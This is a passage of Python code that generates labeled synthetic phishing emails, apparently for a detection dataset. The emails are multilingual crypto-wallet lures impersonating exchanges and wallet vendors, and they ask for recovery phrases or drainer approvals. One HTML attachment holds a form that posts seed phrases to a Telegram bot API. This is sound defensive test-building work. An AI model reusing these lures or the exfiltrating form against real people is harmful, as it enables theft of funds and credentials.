        mail(seed=s, rcv="gmail", to=KEV, frm=addr("Coinbase Billing", "billing@renewal-centre.online"),
             subject="Coinbase One renewal confirmation - Invoice CB1-INV-2025-884102", date=d,
             msgid="<" + rs(s + "m", 20, "0123456789") + ".JavaMail.root@renewal-centre.online>",
             ip="5.181.190.203", helo="renewal-centre.online", mailfrom="billing@renewal-centre.online",
             dkim=("pass", "renewal-centre.online", "s1"), pol="NONE", body=b))

    # 10 Kraken via Firebase - French
    s = "b40-phish-kraken-firebase-fr"
    d = "2025-05-14 06:48:29 +0200"
    link = "https://kraken-verif-fr.firebaseapp.com/connexion?c=camille.durand"
    b = card_alt("===============7390112544==", "kraken", "#7132f5", "Confirmez votre adresse e-mail",
                 ["Bonjour,", "Suite à la mise en conformité MiCA de Payward Europe, nous devons confirmer les coordonnées "
                  "de chaque client européen. Sans confirmation avant le <b>17 mai</b>, les retraits en EUR seront suspendus.",
                  "Merci de vous connecter pour confirmer votre adresse."],
                 ("Confirmer maintenant", link), ["Payward Europe Solutions Limited", "Ne répondez pas à cet e-mail."],
                 lang="fr")
    add(s, "phish", "phishing",
        "French 'MiCA compliance' Kraken lure from look-alike kraken-eu-info.fr; link to a Firebase-hosted "
        "(firebaseapp.com) credential clone.",
        mail(seed=s, rcv="outlook", to=CAM, frm=addr("Kraken Europe", "conformite@kraken-eu-info.fr"),
             subject="MiCA : confirmez vos coordonnées avant le 17 mai", date=d,
             msgid="<" + rs(s + "m", 28, HEX) + "@kraken-eu-info.fr>",
             ip="51.195.118.73", helo="ns3192881.ip-51-195-118.eu", rdns="ns3192881.ip-51-195-118.eu",
             mailfrom="conformite@kraken-eu-info.fr", dkim=("pass", "kraken-eu-info.fr", "dkim"), pol="NONE", body=b))

    # 11 Bybit fake support Telegram (reply to real ticket context)
    s = "b40-phish-bybit-support-telegram"
    d = "2025-07-21 22:16:03 +0000"
    b = text("Hello,\n\nThank you for contacting Bybit Support regarding your pending withdrawal (ticket #4418207).\n\n"
             "Your case has been escalated to the Withdrawal Recovery Department. For security reasons this department "
             "does not handle cases by email. Please contact the assigned senior agent directly:\n\n"
             "  Telegram: @BybitWithdrawalDesk_Anna\n  WhatsApp: +44 7537 184029\n\n"
             "Please prepare your UID, the TXID and a screenshot of your wallet. The agent will guide you through the "
             "wallet synchronisation to release the funds.\n\nKind regards,\nBybit Customer Care\n\n"
             "---\nThis message was sent in response to a request made on bybit.com\n", encoding="7bit")
    add(s, "phish", "phishing",
        "Fake support follow-up to a real Bybit ticket the victim opened, from a Gmail address: moves the conversation to "
        "a Telegram/WhatsApp 'recovery agent' who will ask for 'wallet synchronisation'.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Bybit Customer Care", "bybit.customercare.desk@gmail.com"),
             subject="Re: [Ticket #4418207] Withdrawal not received", date=d,
             msgid="<CAN" + rs(s + "m", 40, ALNUM + "_-") + "@mail.gmail.com>",
             ip="209.85.218.54", helo="mail-ej1-f54.google.com", mailfrom="bybit.customercare.desk@gmail.com",
             dkim=("pass", "gmail.com", "20230601"), pol="NONE",
             extra=["In-Reply-To: <ticket-4418207@bybit.com>", "References: <ticket-4418207@bybit.com>"], body=b))

    # 12 Google Calendar invite for OKX Web3 airdrop
    s = "b40-phish-okx-calendar-airdrop"
    d = "2025-11-04 13:02:17 +0000"
    link = "https://okx-web3-rewards.com/claim?campaign=S3"
    ics = ("BEGIN:VCALENDAR\r\nPRODID:-//Google Inc//Google Calendar 70.9054//EN\r\nVERSION:2.0\r\nCALSCALE:GREGORIAN\r\n"
           "METHOD:REQUEST\r\nBEGIN:VEVENT\r\nDTSTART:20251106T150000Z\r\nDTEND:20251106T160000Z\r\n"
           "DTSTAMP:20251104T130217Z\r\nORGANIZER;CN=OKX Web3 Events:mailto:okxweb3.events@gmail.com\r\n"
           f"UID:{rs(s + 'uid', 26, 'abcdefghijklmnopqrstuvwxyz0123456789')}@google.com\r\n"
           f"ATTENDEE;CUTYPE=INDIVIDUAL;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE;CN={DAN};X-NUM-GUESTS=0:mailto:{DAN}\r\n"
           "CREATED:20251104T130215Z\r\n"
           f"DESCRIPTION:OKX Web3 Season 3 airdrop distribution. Your wallet is eligible for 1\\,250 OKB.\\nClaim before the event ends: {link}\\n\r\n"
           "LAST-MODIFIED:20251104T130215Z\r\nLOCATION:\r\nSEQUENCE:0\r\nSTATUS:CONFIRMED\r\n"
           "SUMMARY:OKX Web3 Airdrop - Season 3 Claim Window\r\nTRANSP:OPAQUE\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
    ics = "\r\n".join(line if len(line) < 75 else "\r\n ".join(line[i:i + 74] for i in range(0, len(line), 74))
                      for line in ics.split("\r\n"))
    plain = (f"OKX Web3 Airdrop - Season 3 Claim Window\nThursday Nov 6, 2025 3pm - 4pm (GMT)\n\n"
             f"OKX Web3 Season 3 airdrop distribution. Your wallet is eligible for 1,250 OKB.\nClaim before the event ends: {link}\n\n"
             f"Organizer\nOKX Web3 Events\nokxweb3.events@gmail.com\n\nReply for {DAN}\n\nInvitation from Google Calendar\n")
    page = (f'<html><body><div style="font-family:Roboto,Arial"><h2>OKX Web3 Airdrop - Season 3 Claim Window</h2>'
            f'<p>Thursday Nov 6, 2025 &middot; 3pm &ndash; 4pm (Greenwich Mean Time)</p>'
            f'<p>OKX Web3 Season 3 airdrop distribution. Your wallet is eligible for 1,250 OKB.<br>'
            f'Claim before the event ends: <a href="https://www.google.com/url?q={link}&amp;sa=D&amp;source=calendar">{link}</a></p>'
            f'<p>Organizer: OKX Web3 Events &lt;okxweb3.events@gmail.com&gt;</p>'
            f'<p><a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={rs(s + "eid", 60)}&amp;rst=1">Yes</a> '
            f'&middot; <a href="https://calendar.google.com/calendar/event?action=RESPOND&amp;eid={rs(s + "eid", 60)}&amp;rst=2">No</a></p>'
            f'<p style="font-size:11px;color:#777">Invitation from Google Calendar</p></div></body></html>\n')
    b = mixed("000000000000c4e3b10642b3d8f2",
              Multi("alternative", "000000000000c4e3ae0642b3d8f0", [
                  text(plain), text(page, "html"),
                  Leaf("text/calendar", ics.encode(), "7bit", '; charset="UTF-8"; method=REQUEST')]),
              attachment("application/ics", "invite.ics", ics.encode()))
    add(s, "phish", "phishing",
        "Google Calendar invitation abuse: attacker Gmail account sends a genuine calendar invite whose description "
        "promises an OKX Web3 OKB airdrop and links to the drainer site okx-web3-rewards.com.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("OKX Web3 Events", "okxweb3.events@gmail.com"),
             subject="Invitation: OKX Web3 Airdrop - Season 3 Claim Window @ Thu Nov 6, 2025 3pm - 4pm (GMT) (" + DAN + ")",
             date=d, msgid="<calendar-" + rs(s + "cm", 8, HEX) + "-" + rs(s + "cn", 4, HEX) + "-" + rs(s + "co", 4, HEX)
             + "-" + rs(s + "cp", 12, HEX) + "@google.com>",
             ip="209.85.220.73", helo="mail-sor-f73.google.com", mailfrom="3" + rs(s + "rp", 20, "abcdefghijklmnopqrstuvwxyz")
             + "@calendar-server.bounces.google.com", dkim=("pass", "gmail.com", "20230601"), pol="NONE",
             hfrom_dom="gmail.com",
             extra=["Sender: Google Calendar <calendar-notification@google.com>", "Reply-To: okxweb3.events@gmail.com"],
             body=b))


def attacks_wallets() -> None:
    # MetaMask verification on Cloudflare Pages
    s = "b40-phish-metamask-verification-pagesdev"
    d = "2025-01-29 15:33:48 +0000"
    link = "https://metamask-wallet-verify.pages.dev/?ref=mm-verif-2025"
    b = card_alt("--_=_swift_1738164828_3f7e2a", "METAMASK", "#f6851b", "Wallet verification required",
                 ["Dear MetaMask user,",
                  "As part of our ongoing efforts to protect users against unauthorised access, MetaMask is introducing "
                  "<b>mandatory wallet verification</b>. Wallets that are not verified by <b>January 31, 2025</b> "
                  "will be restricted from signing transactions.",
                  "Verification takes less than 2 minutes and does not affect your funds."],
                 ("Verify my wallet", link),
                 ["&copy; 2025 ConsenSys Software Inc.", "You are receiving this email because you use MetaMask."],
                 logo="https://metamask-wallet-verify.pages.dev/assets/fox.png")
    add(s, "phish", "phishing",
        "'Mandatory MetaMask wallet verification' lure (MetaMask has no accounts or email) sent through a Mailgun trial "
        "domain; link to a Cloudflare Pages (pages.dev) site asking for the secret recovery phrase.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("MetaMask", "support@mm-notify-centre.com"),
             subject="Action required: verify your MetaMask wallet", date=d,
             msgid="<20250129153348." + rs(s + "m", 16, HEX) + "@mm-notify-centre.com>",
             ip="69.72.43.9", helo="m43-9.mailgun.net", rdns="m43-9.mailgun.net",
             mailfrom="bounce+8a2c11.f3e9c-kevin.tran.sd=gmail.com@mm-notify-centre.com",
             dkim=("pass", "mm-notify-centre.com", "mx"), pol="NONE",
             extra=["X-Mailgun-Sid: " + rs(s + "sid", 40, ALNUM), "X-Mailgun-Tag: verify"], body=b))

    # Ledger hardware replacement
    s = "b40-phish-ledger-replacement-notice"
    d = "2024-10-15 10:02:11 +0200"
    link = "https://ledger-replacement.com/claim?order=LDG-DE-118230"
    b = card_alt("b1_" + rs(s + "bd", 30, HEX), "LEDGER", "#000000", "Ihr Ledger-Gerät muss ersetzt werden",
                 ["Sehr geehrte Kundin, sehr geehrter Kunde,",
                  "bei einer Sicherheitsüberprüfung haben wir festgestellt, dass Ihr Ledger Nano (Seriennummer "
                  "0001-3382-7) von einer Schwachstelle im Secure Element betroffen ist. Wir ersetzen Ihr Gerät "
                  "kostenlos.",
                  "Um den Austausch zu starten, müssen Sie Ihre Wiederherstellungsphrase auf das neue Gerät "
                  "übertragen. Folgen Sie dazu bitte den Anweisungen auf unserer Austauschseite."],
                 ("Austausch anfordern", link),
                 ["Ledger SAS, 1 rue du Mail, 75002 Paris, Frankreich"], lang="de")
    add(s, "phish", "phishing",
        "German fake Ledger hardware-replacement notice from look-alike ledger-replacement.com; the replacement flow "
        "asks the victim to 'transfer' the recovery phrase.",
        mail(seed=s, rcv="gmx", to=SOPH, frm=addr("Ledger Kundenservice", "service@ledger-replacement.com"),
             subject="Wichtig: Kostenloser Austausch Ihres Ledger Nano", date=d,
             msgid="<" + rs(s + "m", 22, ALNUM) + "@ledger-replacement.com>",
             ip="146.70.161.22", helo="mail.ledger-replacement.com", mailfrom="service@ledger-replacement.com",
             dkim=("pass", "ledger-replacement.com", "default"), pol="NONE", body=b))

    # Trezor - genuine support platform abused (hard)
    s = "b40-phish-trezor-zendesk-abuse"
    d = "2024-01-19 03:44:12 +0000"
    b = alt("##- Please type your reply above this line -##\n\n"
            "Trezor Support (Trezor)\n\nJan 19, 2024, 04:44 CET\n\n"
            "Dear customer,\n\nWe have detected a security incident affecting a limited number of Trezor Suite users. "
            "To make sure your device and funds are not affected, all customers must complete a device integrity "
            "check within 24 hours.\n\nPlease fill in the verification form below, including the 24 words of your "
            "recovery seed, so our security team can confirm that your wallet was not exposed:\n\n"
            "https://forms.gle/9xTqZbR4mWcE1vKp7\n\nAccounts that are not verified will be flagged as compromised.\n\n"
            "Trezor Security Team\n\nThis email is a service from Trezor. [GK47R2-M0QN]\n",
            '<html><body style="font-family:sans-serif;font-size:14px;color:#2b2e33">'
            '<div style="color:#b5b5b5">##- Please type your reply above this line -##</div>'
            '<p><b>Trezor Support</b> (Trezor)<br><span style="color:#bbb">Jan 19, 2024, 04:44 CET</span></p>'
            '<p>Dear customer,</p><p>We have detected a security incident affecting a limited number of Trezor Suite '
            'users. To make sure your device and funds are not affected, all customers must complete a device integrity '
            'check within 24 hours.</p><p>Please fill in the verification form below, including the 24 words of your '
            'recovery seed, so our security team can confirm that your wallet was not exposed:</p>'
            '<p><a href="https://forms.gle/9xTqZbR4mWcE1vKp7">https://forms.gle/9xTqZbR4mWcE1vKp7</a></p>'
            '<p>Accounts that are not verified will be flagged as compromised.</p><p>Trezor Security Team</p>'
            '<div style="color:#aaa;font-size:12px">This email is a service from Trezor. [GK47R2-M0QN]</div>'
            '</body></html>\n', "--==_mimepart_65a9f0bc5d2a1_3e9b2c81044e6")
    add(s, "phish", "phishing",
        "Hard: phishing sent through Trezor's own hosted help-desk after its support platform was breached; passes all "
        "authentication, but asks for the 24-word recovery seed in a Google Form.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("Trezor Support", "support@trezor.io"),
             subject="[Trezor] Security incident - device integrity check required", date=d,
             msgid="<" + rs(s + "m", 12, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") + "_65a9f0bc5c8f1_3e9b2c81043b7_sprut@zendesk.com>",
             ip="192.161.151.47", helo="out147-151.mail.zendesk.com", rdns="out147-151.mail.zendesk.com",
             mailfrom="support+id4412097@trezor.zendesk.com", dkim=("pass", "trezor.io", "zendesk1"), pol="QUARANTINE",
             hfrom_dom="trezor.io",
             extra=["Reply-To: Trezor Support <support+id4412097@trezor.zendesk.com>", "X-Mailer: Zendesk Mailer",
                    "X-Zendesk-From-Account-Id: 9c1f0a", "Auto-Submitted: auto-generated"], body=b))

    # Trust Wallet airdrop drainer
    s = "b40-phish-trustwallet-twt-airdrop"
    d = "2025-08-12 18:22:05 +0000"
    link = "https://twt-rewards.xyz/claim?w=connect"
    b = text(f"""<!DOCTYPE html><html><body style="margin:0;background:#1b1b1c;font-family:Arial,sans-serif">
<center><table width="600" style="background:#ffffff;margin:24px 0;border-radius:14px"><tr><td style="padding:36px;text-align:center">
<div style="font-size:26px;font-weight:bold;color:#0500ff">Trust Wallet</div>
<h1 style="font-size:28px;color:#1b1b1c">You're eligible for the TWT Loyalty Airdrop 🎉</h1>
<p style="font-size:16px;color:#444">To celebrate 200M users, eligible wallets can claim <b>500 TWT</b> (~$430).
Allocation is first come, first served and the claim window closes in <b>72 hours</b>.</p>
<p><a href="{link}" style="display:inline-block;background:#0500ff;color:#fff;padding:16px 40px;border-radius:30px;text-decoration:none;font-size:17px">Claim 500 TWT</a></p>
<p style="font-size:13px;color:#888">Connect the wallet you use with Trust Wallet and approve the claim transaction.</p>
<p style="font-size:11px;color:#aaa">Trust Wallet &middot; Unsubscribe</p>
</td></tr></table></center></body></html>
""", "html")
    add(s, "phish", "phishing",
        "Trust Wallet 'loyalty airdrop' of 500 TWT with a 72-hour window; the claim site asks to connect the wallet and "
        "approve a transaction (drainer). Sent through SendGrid from an unrelated domain.",
        mail(seed=s, rcv="outlook", to=VAL, frm=addr("Trust Wallet", "rewards@trustwallet-community.io"),
             subject="🎁 Your 500 TWT airdrop is ready to claim", date=d,
             msgid="<" + rs(s + "m", 22, ALNUM + "-_") + "@geopod-ismtpd-8>",
             ip="149.72.154.232", helo="o1.ptr7731.trustwallet-community.io", rdns="o1.ptr7731.trustwallet-community.io",
             mailfrom="bounces+38810224-1f3a-" + VAL.replace("@", "=") + "@em8841.trustwallet-community.io",
             dkim=("pass", "trustwallet-community.io", "s1"), pol="NONE",
             extra=["X-SG-EID: " + rs(s + "eid", 80, B64), "X-Entity-ID: " + rs(s + "ent", 22, B64)], body=b))

    # Phantom JUP claim drainer on Vercel
    s = "b40-phish-phantom-jup-claim-vercel"
    d = "2025-01-23 20:41:30 +0000"
    link = "https://jup-claim-phantom.vercel.app/"
    b = card_alt("_----------=_173766489043170", "Phantom", "#ab9ff2", "Jupuary is live: claim your JUP",
                 ["Hey there,", "Your Phantom wallet qualified for the Jupiter Jupuary distribution: "
                  "<b>2,840 JUP</b> are waiting for you.",
                  "Open the claim page, connect Phantom and sign the claim. Unclaimed tokens return to the DAO on "
                  "January 27."],
                 ("Claim with Phantom", link), ["Phantom Technologies, Inc.", "Manage email preferences"])
    add(s, "phish", "phishing",
        "Fake Phantom notice of a Jupiter 'Jupuary' JUP airdrop; claim page on vercel.app makes the victim connect "
        "Phantom and sign a draining transaction.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Phantom", "hello@phantom-wallet-news.com"),
             subject="2,840 JUP waiting in your Phantom wallet", date=d,
             msgid="<" + rs(s + "m", 30, HEX) + "@phantom-wallet-news.com>",
             ip="198.2.179.41", helo="mail179-41.suw31.mandrillapp.com", rdns="mail179-41.suw31.mandrillapp.com",
             mailfrom="bounce-md_31117402." + rs(s + "b", 8, HEX) + ".v1-" + rs(s + "c", 32, HEX) + "@mandrillapp.com",
             dkim=("pass", "phantom-wallet-news.com", "mte1"), pol="NONE",
             extra=["X-Mandrill-User: md_31117402", "X-Report-Abuse: Please forward a copy of this message, including "
                    "all headers, to abuse@mandrill.com"], body=b))

    # NFT free mint
    s = "b40-phish-nft-whitelist-mint"
    d = "2024-06-09 17:05:59 +0000"
    link = "https://opensea-drops.io/collection/azuki-elementals-ii/mint"
    b = text(f"""<html><body style="font-family:Poppins,Arial;background:#ffffff">
<div style="max-width:560px;margin:auto;padding:24px;border:1px solid #e5e8eb;border-radius:12px">
<div style="color:#2081e2;font-weight:700;font-size:22px">OpenSea</div>
<h2>You're on the allowlist for Azuki Elementals II</h2>
<p>Congratulations! Your wallet was selected for the <b>free allowlist mint</b> of Azuki Elementals II (gas only).</p>
<p>Mint phase: <b>live now &ndash; ends in 6 hours</b><br>Max per wallet: 2</p>
<p><a href="{link}" style="background:#2081e2;color:#fff;padding:12px 24px;border-radius:10px;text-decoration:none">Mint now</a></p>
<p style="font-size:12px;color:#8a939b">OpenSea &middot; You're receiving this because you collected from Azuki.</p>
</div></body></html>
""", "html")
    add(s, "phish", "phishing",
        "NFT drainer: fake OpenSea 'allowlist free mint' for an Azuki collection on look-alike opensea-drops.io, where "
        "minting means signing a Seaport/Permit approval that empties the wallet.",
        mail(seed=s, rcv="gmail", to=KEV, frm=addr("OpenSea", "drops@opensea-drops.io"),
             subject="You're on the allowlist: Azuki Elementals II free mint is live", date=d,
             msgid="<" + rs(s + "m", 36, HEX) + "@opensea-drops.io>", ip="104.234.11.87", helo="opensea-drops.io",
             mailfrom="drops@opensea-drops.io", dkim=("pass", "opensea-drops.io", "k1"), pol="NONE", body=b))

    # zkSync airdrop checker (plain text, compromised mailbox)
    s = "b40-phish-zksync-airdrop-checker"
    d = "2024-06-13 07:28:44 +0200"
    b = text("Hi,\n\nThe ZKsync Airdrop (ZK token) is now live. Over 695,000 wallets are eligible and the "
             "allocation checker is open for 48 hours only.\n\nCheck your allocation and claim here:\n"
             "https://claim-zksync.network/eligibility\n\nConnect your wallet (MetaMask, Rabby, Trust Wallet or "
             "WalletConnect) and approve the claim.\n\nZKsync Foundation\n", encoding="7bit")
    add(s, "phish", "phishing",
        "ZKsync 'airdrop eligibility checker' sent to a blind list from a compromised German club's mailbox; link to the "
        "drainer claim-zksync.network.",
        mail(seed=s, rcv="gmx", to=LENA, frm=addr("ZKsync Airdrop", "kassenwart@tsv-eichenau-tennis.de"),
             subject="ZK token airdrop - check your allocation", date=d,
             msgid="<" + rs(s + "m", 18, HEX) + "@tsv-eichenau-tennis.de>",
             ip="212.227.126.135", helo="mout.kundenserver.de", rdns="mout.kundenserver.de",
             mailfrom="kassenwart@tsv-eichenau-tennis.de", dkim=None, dmarc="absent",
             pre=[hop("[41.190.3.77]", "41.190.3.77", "mrelayeu.kundenserver.de (mreue106)", d, 0, "ESMTPSA (Nemesis)",
                      "1N" + rs(s + "ku", 6, ALNUM), "[41.190.3.77]")],
             to_hdr="undisclosed-recipients:;", extra=["X-Mailer: Microsoft Outlook 16.0"], body=b))

    # Google Forms wallet validation (genuine Google mail)
    s = "b40-phish-google-forms-wallet-validation"
    d = "2025-03-05 11:47:26 -0800"
    form = "https://docs.google.com/forms/d/e/1FAIpQLSf" + rs(s + "f", 48, ALNUM + "_-") + "/viewform?usp=send_form"
    plain = ("Ledger Wallet Validation has invited you to fill out a form:\n\nLedger Live - Wallet Validation 2025\n\n"
             "Due to the new EU anti-money laundering rules (AMLR), all Ledger owners must validate their wallet before "
             "31 March 2025. Non-validated wallets will be disconnected from Ledger Live.\n\n"
             f"FILL OUT FORM: {form}\n\nGoogle Forms: Create and analyze surveys.\n")
    page = (f'<html><body style="font-family:Roboto,Arial"><div style="max-width:600px;margin:auto">'
            f'<p>Ledger Wallet Validation has invited you to fill out a form:</p>'
            f'<div style="border:1px solid #dadce0;border-radius:8px;padding:24px">'
            f'<h2 style="font-weight:400">Ledger Live - Wallet Validation 2025</h2>'
            f'<p>Due to the new EU anti-money laundering rules (AMLR), all Ledger owners must validate their wallet '
            f'before 31 March 2025. Non-validated wallets will be disconnected from Ledger Live.</p>'
            f'<a href="{form}" style="background:#673ab7;color:#fff;padding:10px 24px;border-radius:4px;'
            f'text-decoration:none">FILL OUT FORM</a></div>'
            f'<p style="font-size:12px;color:#5f6368">Create your own Google Form<br>Google LLC, 1600 Amphitheatre '
            f'Parkway, Mountain View, CA 94043, USA</p></div></body></html>\n')
    add(s, "phish", "phishing",
        "Hard: genuine Google Forms invitation (passes Google's authentication) for a 'Ledger wallet validation' form "
        "that collects the recovery phrase.",
        mail(seed=s, rcv="ruizpaz", to=MARTA, frm=addr("Ledger Wallet Validation (via Google Forms)", "forms-receipts-noreply@google.com"),
             subject="Ledger Live - Wallet Validation 2025", date=d,
             msgid="<" + rs(s + "m", 22, ALNUM) + "@google.com>",
             ip="209.85.128.200", helo="mail-yw1-f200.google.com", rdns="mail-yw1-f200.google.com",
             mailfrom="3" + rs(s + "rp", 24, "abcdefghijklmnopqrstuvwxyz") + "@docos.bounces.google.com",
             dkim=("pass", "google.com", "20230601"), pol="REJECT",
             extra=["Reply-To: ledger.validation.eu@gmail.com"], body=alt(plain, page, "000000000000" + rs(s + "bd", 16, HEX))))

    # Typeform KYC for Revolut
    s = "b40-phish-revolut-typeform-kyc"
    d = "2025-02-24 09:09:31 +0000"
    link = "https://form.typeform.com/to/Q7vLk2Rx?utm_source=email"
    b = card_alt("=-" + rs(s + "bd", 24, ALNUM), "Revolut", "#191c1f", "We need to verify a few details",
                 ["Hi Jordan,", "As part of our annual review required by the Bank of Lithuania, we need you to confirm "
                  "your personal details and source of funds.",
                  "Please complete the short review form. Until it is completed, card payments above £250 may be "
                  "declined."],
                 ("Complete review", link), ["Revolut Ltd &middot; 7 Westferry Circus, London E14 4HD"])
    add(s, "phish", "phishing",
        "Revolut 'annual source-of-funds review' from look-alike revolut-review.co.uk; the review is a Typeform that asks "
        "for card number, passcode and ID photos.",
        mail(seed=s, rcv="quantleaf", to=JO, frm=addr("Revolut", "review@revolut-review.co.uk"),
             subject="Action needed: complete your account review", date=d,
             msgid="<" + rs(s + "m", 26, HEX) + "@revolut-review.co.uk>", ip="31.220.96.14",
             helo="smtp.revolut-review.co.uk", mailfrom="review@revolut-review.co.uk",
             dkim=("pass", "revolut-review.co.uk", "default"), pol="NONE", body=b))

    # Notion-hosted Binance statement (compromised business mailbox, Outlook)
    s = "b40-phish-notion-binance-statement"
    d = "2025-05-27 13:55:02 +0200"
    link = "https://binance-secure-docs.notion.site/Binance-Account-Statement-" + rs(s + "n", 32, HEX)
    b = alt("Hello,\n\nA secure document has been shared with you regarding your Binance account (withdrawal "
            "review - 27/05/2025).\n\nView document: " + link + "\n\nThis link will expire in 24 hours.\n\n"
            "Best regards\nCarmen Gil\nAdministración | Gestoría Levante Asesores\n",
            f'<html><body><div style="font-family:Calibri,sans-serif;font-size:11pt"><p>Hello,</p>'
            f'<p>A secure document has been shared with you regarding your Binance account (withdrawal review - 27/05/2025).</p>'
            f'<p><a href="{link}">&#128196; Binance_Account_Statement.pdf</a></p><p>This link will expire in 24 hours.</p>'
            f'<p>Best regards<br>Carmen Gil<br>Administraci&oacute;n | Gestor&iacute;a Levante Asesores</p></div></body></html>\n',
            "_000_PAXP193MB21" + rs(s + "b", 10, "0123456789") + "PAXP193MB2167EURP_")
    add(s, "phish", "phishing",
        "Compromised Spanish accountancy Microsoft 365 mailbox (passes SPF/DKIM/DMARC) shares a 'Binance account "
        "statement' hosted on notion.site that links on to a Binance login clone.",
        mail(seed=s, rcv="ruizpaz", to=MARTA, frm=addr("Carmen Gil", "cgil@gestorialevante.es"),
             subject="Binance - documento compartido", date=d,
             msgid="<PAXP193MB2167" + rs(s + "m", 8, "0123456789ABCDEF") + "@PAXP193MB2167.EURP193.PROD.OUTLOOK.COM>",
             ip="40.107.21.102", helo="EUR05-VI1-obe.outbound.protection.outlook.com",
             rdns="mail-vi1eur05on2102.outbound.protection.outlook.com", mailfrom="cgil@gestorialevante.es",
             dkim=("pass", "gestorialevante.es", "selector1"), pol="QUARANTINE",
             extra=["X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", "Content-Language: es-ES"], body=b))

    # GitHub Pages MetaMask recovery
    s = "b40-phish-metamask-githubio-restore"
    d = "2024-09-30 23:11:08 +0000"
    link = "https://metamask-restore-portal.github.io/wallet/"
    b = text(f"""<html><body style="font-family:Euclid Circular B,Arial;color:#24272a">
<p><img src="https://metamask-restore-portal.github.io/wallet/img/metamask-fox.svg" width="48" alt="MetaMask"></p>
<p>Hello,</p>
<p>Your MetaMask wallet has been scheduled for <b>deactivation</b> because it was not updated to the latest security
standard (KYC-Wallet v12). Deactivated wallets cannot send or receive tokens.</p>
<p>To keep using your wallet, restore it on our secure portal before <b>October 2, 2024</b>.</p>
<p><a href="{link}">Restore wallet &rarr;</a></p>
<p>MetaMask Support</p>
</body></html>
""", "html")
    add(s, "phish", "phishing",
        "MetaMask 'deactivation' notice from a throw-away Yandex address; 'Restore wallet' link goes to a GitHub Pages "
        "(github.io) site that asks for the secret recovery phrase.",
        mail(seed=s, rcv="gmail", to=DAN, frm=addr("MetaMask Support", "metamask.support.center@yandex.com"),
             subject="Your wallet is scheduled for deactivation", date=d,
             msgid="<" + rs(s + "m", 12, "0123456789") + "@mail.yandex.com>",
             ip="178.154.239.200", helo="forward200a.mail.yandex.net", rdns="forward200a.mail.yandex.net",
             mailfrom="metamask.support.center@yandex.com", dkim=("pass", "yandex.com", "mail"), pol="NONE",
             extra=["X-Mailer: Yamail [ http://yandex.ru ] 5.0"], body=b))

    # MetaMask HTML attachment with seed form
    s = "b40-phish-metamask-html-attachment"
    d = "2025-10-28 05:37:19 +0000"
    page = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>MetaMask - Restore Vault</title>"
            "<style>body{font-family:Arial;background:#f2f4f6}.box{max-width:420px;margin:60px auto;background:#fff;"
            "padding:30px;border-radius:10px}textarea{width:100%;height:90px}</style></head><body><div class=\"box\">"
            "<h2>Restore your wallet</h2><p>Enter your 12-word Secret Recovery Phrase to complete the security "
            "upgrade.</p><form method=\"POST\" action=\"https://api.telegram.org/bot7391024553:AAF" + rs(s + "tk", 32, ALNUM)
            + "/sendMessage\"><input type=\"hidden\" name=\"chat_id\" value=\"-100218830471\">"
            "<textarea name=\"text\" placeholder=\"word1 word2 word3 ...\"></textarea><br><br>"
            "<input type=\"password\" name=\"pw\" placeholder=\"New password\"><br><br>"
            "<button type=\"submit\">Restore</button></form></div></body></html>\n")
    b = mixed("----=_Part_" + rs(s + "bd", 18, "0123456789"),
              text("Dear MetaMask user,\n\nFollowing the recent security upgrade, your vault needs to be restored "
                   "to remain accessible. Open the attached secure file in your browser and follow the instructions.\n\n"
                   "MetaMask Security\n", encoding="7bit"),
              attachment("text/html", "MetaMask_Vault_Restore.html", page.encode()))
    add(s, "phish", "phishing",
        "HTML attachment 'MetaMask Vault Restore' with a form posting the seed phrase to a Telegram bot API; sent from a "
        "bulk-mailing VPS with no authentication.",
        mail(seed=s, rcv="outlook", to=CAM, frm=addr("MetaMask Security", "security@metamask-vault.info"),
             subject="Vault restore required", date=d, msgid="<" + rs(s + "m", 24, HEX) + "@localhost>",
             ip="185.196.9.44", helo="localhost", rdns="", mailfrom="security@metamask-vault.info", spf="none",
             dkim=None, dmarc="absent", body=b))

    # Trust Wallet mandatory upgrade
    s = "b40-phish-trustwallet-mandatory-upgrade"
    d = "2025-04-30 14:18:36 -0300"
    link = "https://trustwallet-atualizacao.com/app/upgrade"
    b = card_alt("--==_" + rs(s + "bd", 20, HEX), "Trust Wallet", "#0500ff", "Atualização obrigatória da carteira",
                 ["Olá,", "A versão da sua Trust Wallet será <b>descontinuada em 05/05/2025</b>. Para manter acesso aos "
                  "seus ativos é necessário migrar sua carteira para a nova versão com proteção quântica.",
                  "A migração é feita importando sua frase de recuperação (12 ou 24 palavras) no assistente oficial."],
                 ("Migrar agora", link), ["Trust Wallet &middot; Binance Holdings"], lang="pt-BR")
    add(s, "phish", "phishing",
        "Portuguese Trust Wallet 'mandatory upgrade / migration' lure; the 'official assistant' on trustwallet-atualizacao.com "
        "asks for the 12/24-word recovery phrase.",
        mail(seed=s, rcv="gmail", to=LUC, frm=addr("Trust Wallet", "noreply@trustwallet-atualizacao.com"),
             subject="Sua carteira será descontinuada em 05/05", date=d,
             msgid="<" + rs(s + "m", 20, HEX) + "@trustwallet-atualizacao.com>", ip="193.233.202.17",
             helo="mail.trustwallet-atualizacao.com", mailfrom="noreply@trustwallet-atualizacao.com",
             dkim=("pass", "trustwallet-atualizacao.com", "mail"), pol="NONE", body=b))

    # Ledger PDF letter with link (data-breach themed)
    s = "b40-phish-ledger-pdf-security-check"
    d = "2024-12-09 08:20:55 +0100"
    att = pdf(["Ledger SAS - Security Department", "", "Notice ref. LDG-SEC-2024-11873", "",
               "Dear Ledger customer,", "",
               "Following the leak of customer data from a third-party e-commerce provider,",
               "your device may be targeted. To protect your assets, Ledger requires all affected",
               "customers to run the Ledger Security Check and re-synchronise their recovery phrase.", "",
               "Use the button below to start. The check must be completed within 7 days.", "",
               "Ledger Security Team"], link=("https://ledger-securitycheck.com/start?ref=LDG-SEC-2024-11873",
                                             (56, 520, 300, 560)), title="Ledger Security Notice")
    b = mixed("=_" + rs(s + "bd", 28, HEX),
